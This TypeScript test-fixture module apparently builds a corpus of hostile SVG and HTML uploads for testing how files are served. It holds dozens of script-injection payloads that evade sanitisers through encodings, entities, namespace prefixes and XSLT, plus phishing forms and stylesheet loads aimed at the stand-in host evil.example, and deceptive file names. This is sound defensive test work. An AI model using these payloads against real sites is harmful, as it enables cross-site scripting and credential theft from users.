import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import mimeTypes from 'mime-db';
import { packageRoot } from '../../src/base/index.ts';

/**
 * Drawings (SVG) that call `alert` or reach another host when a browser opens them by themselves, each byte as one character.
 * Each hides in another way from a search for words.
 */
const hostileDrawings: Readonly<Record<string, string>> = {
  'SVGup.SVG':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(\'S:SVGup\')"/>',
  'aform.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/phish"><input name="password" type="password"/><button>Sign in</button></form></svg>',
  'animhref.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a><animate attributeName="href" values="java&#10;script:alert(\'S:animhref\')"/><text y="20">c</text></a></svg>',
  'attlist.svg':
    '<?xml version="1.0"?><!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(\'S:attlist\')">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
  'attlistns.svg':
    '<?xml version="1.0"?><!DOCTYPE svg [<!ATTLIST svg xmlns CDATA "http://www.w3.org/2000/svg" onload CDATA #FIXED "alert(\'S:attlistns\')">]><svg/>',
  'base.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><base xmlns="http://www.w3.org/1999/xhtml" href="https://evil.example/"/></svg>',
  'big5.svg':
    '<?xml version="1.0" encoding="gb18030"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(\'S:big5\')"/>',
  'bom8.svg':
    '\u00ef\u00bb\u00bf<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(\'S:bom8\')</script></svg>',
  'cdata.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><sc<![CDATA[ript]]>>alert(\'S:cdata\')</script></svg>',
  'ebcdic.svg':
    '<?xml version="1.0" encoding="cp037"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
  'entity.svg':
    '<!DOCTYPE svg [<!ENTITY x "<script>alert(\'S:entity\')</script>">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">&x;</svg>',
  'foreign.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><\u00c3\u00a9:foreignObject xmlns:\u00c3\u00a9="http://www.w3.org/2000/svg"><x xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example"><input/></form></x></\u00c3\u00a9:foreignObject></svg>',
  'handler.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(\'S:handler\')</handler></svg>',
  'htmliframe.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><\u00c3\u00a9:iframe xmlns:\u00c3\u00a9="http://www.w3.org/1999/xhtml" srcdoc="&lt;scr&#105;pt&gt;parent.alert(\'S:htmliframe\')&lt;/scr&#105;pt&gt;"/></svg>',
  'htmlns.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="alert(\'S:htmlns\')"/></svg>',
  'iso2022.svg':
    '<?xml version="1.0" encoding="ISO-2022-JP"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><scr\u001b(Bipt>alert(\'S:iso2022\')</scr\u001b(Bipt></svg>',
  'iso2022on.svg':
    '<?xml version="1.0" encoding="ISO-2022-JP"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" on\u001b(Bload="alert(\'S:iso2022on\')"/>',
  'link.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/></svg>',
  'meta.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></svg>',
  'nel.svg':
    '<?xml version="1.1"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"\u0085onload="alert(\'S:nel\')"/>',
  'onload.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(\'S:onload\')"/>',
  'pentity.svg':
    '<!DOCTYPE svg [<!ENTITY % x "&#60;!ENTITY y \'z\'>"> %x;]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">&y;</svg>',
  'plain.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(\'S:plain\')</script></svg>',
  'prefix.svg':
    '<\u00c3\u00a9:svg xmlns:\u00c3\u00a9="http://www.w3.org/2000/svg"><\u00c3\u00a9:script>alert(\'S:prefix\')</\u00c3\u00a9:script></\u00c3\u00a9:svg>',
  'prefixdot.svg':
    '<a.b:svg xmlns:a.b="http://www.w3.org/2000/svg"><a.b:script>alert(\'S:prefixdot\')</a.b:script></a.b:svg>',
  'quoteadj.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" a="b"onload="alert(\'S:quoteadj\')"/>',
  'setonload.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><set attributeName="onmouseover" to="alert(\'S:setonload\')"/></svg>',
  'slash.svg':
    '<svg/xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/onload="alert(\'S:slash\')"/>',
  'styleimp.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><style>@import url("https://evil.example/x.css"); * { background: url(https://evil.example/t.png) }</style><image href="https://evil.example/t.png"/></svg>',
  'stylepi.svg':
    '<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
  'svgdot.svg.':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(\'S:svgdot\')"/>',
  'svgspace.svg ':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(\'S:x\')"/>',
  'upper.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><SCRIPT xmlns="http://www.w3.org/1999/xhtml">alert(\'S:upper\')</SCRIPT></svg>',
  'usedata.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxuczp4bGluaz0iaHR0cDovL3d3dy53My5vcmcvMTk5OS94bGluayI+PGltYWdlIGhyZWY9IjEiIG9uZXJyb3I9ImFsZXJ0KCdTOnVzZWRhdGEnKSIvPjwvc3ZnPg==#x"/></svg>',
  'utf16.svg':
    '\u00ff\u00fe<\u0000s\u0000v\u0000g\u0000 \u0000x\u0000m\u0000l\u0000n\u0000s\u0000=\u0000"\u0000h\u0000t\u0000t\u0000p\u0000:\u0000/\u0000/\u0000w\u0000w\u0000w\u0000.\u0000w\u00003\u0000.\u0000o\u0000r\u0000g\u0000/\u00002\u00000\u00000\u00000\u0000/\u0000s\u0000v\u0000g\u0000"\u0000 \u0000x\u0000m\u0000l\u0000n\u0000s\u0000:\u0000x\u0000l\u0000i\u0000n\u0000k\u0000=\u0000"\u0000h\u0000t\u0000t\u0000p\u0000:\u0000/\u0000/\u0000w\u0000w\u0000w\u0000.\u0000w\u00003\u0000.\u0000o\u0000r\u0000g\u0000/\u00001\u00009\u00009\u00009\u0000/\u0000x\u0000l\u0000i\u0000n\u0000k\u0000"\u0000 \u0000o\u0000n\u0000l\u0000o\u0000a\u0000d\u0000=\u0000"\u0000a\u0000l\u0000e\u0000r\u0000t\u0000(\u0000\'\u0000S\u0000:\u0000u\u0000t\u0000f\u00001\u00006\u0000\'\u0000)\u0000"\u0000/\u0000>\u0000',
  'utf16nobom.svg':
    '<\u0000?\u0000x\u0000m\u0000l\u0000 \u0000v\u0000e\u0000r\u0000s\u0000i\u0000o\u0000n\u0000=\u0000"\u00001\u0000.\u00000\u0000"\u0000 \u0000e\u0000n\u0000c\u0000o\u0000d\u0000i\u0000n\u0000g\u0000=\u0000"\u0000U\u0000T\u0000F\u0000-\u00001\u00006\u0000"\u0000?\u0000>\u0000<\u0000s\u0000v\u0000g\u0000 \u0000x\u0000m\u0000l\u0000n\u0000s\u0000=\u0000"\u0000h\u0000t\u0000t\u0000p\u0000:\u0000/\u0000/\u0000w\u0000w\u0000w\u0000.\u0000w\u00003\u0000.\u0000o\u0000r\u0000g\u0000/\u00002\u00000\u00000\u00000\u0000/\u0000s\u0000v\u0000g\u0000"\u0000 \u0000x\u0000m\u0000l\u0000n\u0000s\u0000:\u0000x\u0000l\u0000i\u0000n\u0000k\u0000=\u0000"\u0000h\u0000t\u0000t\u0000p\u0000:\u0000/\u0000/\u0000w\u0000w\u0000w\u0000.\u0000w\u00003\u0000.\u0000o\u0000r\u0000g\u0000/\u00001\u00009\u00009\u00009\u0000/\u0000x\u0000l\u0000i\u0000n\u0000k\u0000"\u0000 \u0000o\u0000n\u0000l\u0000o\u0000a\u0000d\u0000=\u0000"\u0000a\u0000l\u0000e\u0000r\u0000t\u0000(\u0000\'\u0000S\u0000:\u0000u\u0000t\u0000f\u00001\u00006\u0000n\u0000o\u0000b\u0000o\u0000m\u0000\'\u0000)\u0000"\u0000/\u0000>\u0000',
  'utf7.svg':
    '<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload+AD0-"alert(\'S:utf7\')"/+AD4-',
  'xslt.svg':
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:element name="{concat(\'scr\',\'ipt\')}" namespace="http://www.w3.org/1999/xhtml">alert(\'S:xslt\')</xsl:element></xsl:template></xsl:stylesheet></svg>',
  'xslt2.svg':
    '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><xsl:element name="{concat(\'scr\',\'ipt\')}">alert(\'S:xslt2\')</xsl:element></html></xsl:template></xsl:stylesheet>',
  'xsltdata.svg':
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="xslt2.svg"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
  'cssescape.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport "https://evil.example/x.css"; * { fill: u\\72l(https://evil.example/t) }</style><rect width="9" height="9" fill="url(https://evil.example/f#a)" style="filter:url(&quot;https://evil.example/g#b&quot;)"/></svg>',
  'switch.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><switch><foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><img src="x" onerror="alert(2)"/><object data="javascript:alert(3)"/></body></foreignObject></switch></svg>',
  'usefile.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="plain.svg#x"/><image href="javascript:alert(1)" width="9" height="9"/></svg>',
};

/** A page that runs, whether it is read as HTML or as XML. */
const hostilePages = [
  "<script>alert('page')</script>",
  "\n\t <!-- --><html><body onload=alert('page')>",
  '<?xml version="1.0"?><r><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></r>',
  '<!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><head><script>alert(1)</script></head></html>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
];

/** Names with endings that hosts know, and some deceptive names. */
const hostileNames = [
  ...[
    'x.html.',
    'x.html ',
    'x.svg.png',
    'x.php.png',
    'x.shtml.jpg',
    'x.html.gz',
    'noext',
    '.htaccess',
    'x.HTML',
    'x.SvGz',
  ],
  ...[
    'x.htm5',
    'x.phtml',
    'x.php5',
    'x.ejs',
    'x.vue',
    'x.hta',
    'x.mht',
    'x.dtb',
    'x.uoml',
    'x.plist',
    'x.csproj',
    'x.tei',
  ],
];

/** Every ending to which some table of types gives a type that a browser runs. */
export const activeEndings: readonly string[] = Object.entries(mimeTypes)
  .filter(([type]) => /(?:^|[/+.-])(?:xml|xhtml|html|x?javascript|ecmascript|wasm)\b/.test(type))
  .flatMap(([, { extensions }]) => extensions ?? []);

/** The type that hosts usually send for a file's name; undefined where they send none. */
export function usualType(file: string): string | undefined {
  const ending = /\.([^./]+)$/.exec(file)?.[1]?.toLowerCase() ?? '';
  return Object.entries(mimeTypes).find(([, { extensions }]) => extensions?.includes(ending))?.[0];
}

/** Files that act in a browser, by name. */
export function activeFiles(): ReadonlyMap<string, Uint8Array> {
  const files = new Map<string, Uint8Array>();
  for (const [name, text] of Object.entries(hostileDrawings)) files.set(name, Buffer.from(text, 'latin1'));
  const shown = ['png', 'gif', 'pdf', 'mp4', 'txt', 'csv', 'json', 'md', 'yaml', 'zip', 'docx', 'woff2'];
  const names = [
    ...hostileNames,
    ...[...new Set(activeEndings)].map((ending) => `a.${ending}`),
    ...shown.map((ending) => `b.${ending}`),
  ];
  for (const [at, name] of names.entries()) {
    const page = hostilePages[at % hostilePages.length] ?? '';
    if (!files.has(name)) files.set(name, Buffer.from(page));
  }
  for (const [at, page] of hostilePages.entries()) files.set(`page${at}.txt`, Buffer.from(page));
  return files;
}

const attack = join(packageRoot(), '../shared/attack/assets');

/** The files of the tests, and the files of the attack on an earlier version if they exist. */
export function allActiveFiles(): Map<string, Uint8Array> {
  const files = new Map(activeFiles());
  if (existsSync(attack))
    for (const name of readdirSync(attack))
      files.set(`attack-${name}`, new Uint8Array(readFileSync(join(attack, name))));
  return files;
}
